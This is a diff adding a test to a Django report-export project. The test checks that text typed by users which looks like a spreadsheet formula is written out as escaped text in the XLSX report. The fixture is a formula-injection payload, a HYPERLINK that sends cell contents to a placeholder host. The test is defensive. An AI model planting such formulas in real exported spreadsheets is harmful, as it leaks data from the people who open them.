@@ -15,7 +15,7 @@ from docx import Document
 from openpyxl import load_workbook
 
 from tallrapport.accounts.models import User
-from tallrapport.plans.models import ActionPlan
+from tallrapport.plans.models import ActionPlan, Measure, MeasureStatus
 from tallrapport.plans.reports import render_report
 from tests.conftest import client_for
 
@@ -131,3 +131,28 @@ def test_command_writes_each_format(plans: list[ActionPlan], tmp_path: Path, fmt
     call_command("plan_report", plan="2017-2020", year=2020, fmt=fmt, output=tmp_path)
     written = tmp_path / f"handlingsplan-2017-2020-status-2020.{fmt}"
     assert written.stat().st_size > 1000
+
+
+def test_xlsx_writes_typed_text_that_looks_like_a_formula_as_text(plan_2021: ActionPlan) -> None:
+    # given a measure whose status text and title start like formulas
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"Klikk her")'
+    status = (
+        MeasureStatus.objects.filter(measure__plan=plan_2021, reporting_year__closed=False)
+        .select_related("measure", "reporting_year")
+        .first()
+    )
+    assert status is not None
+    Measure.objects.filter(pk=status.measure.pk).update(title="+" + hostile)
+    MeasureStatus.objects.filter(pk=status.pk).update(text=hostile)
+    year = status.reporting_year.year
+    # when another user downloads the plan report as a spreadsheet
+    content, _fmt = render_report(plan_2021, year, "xlsx")
+    workbook = load_workbook(io.BytesIO(content))
+    # then no cell anywhere is a formula, and the typed text is there as text
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    values = {cell.value for cell in cells}
+    assert "'" + hostile in values
+    assert "'+" + hostile in values
+    # and the years and numbers stay numbers
+    assert workbook["Alle statuser"]["A2"].data_type == "n"
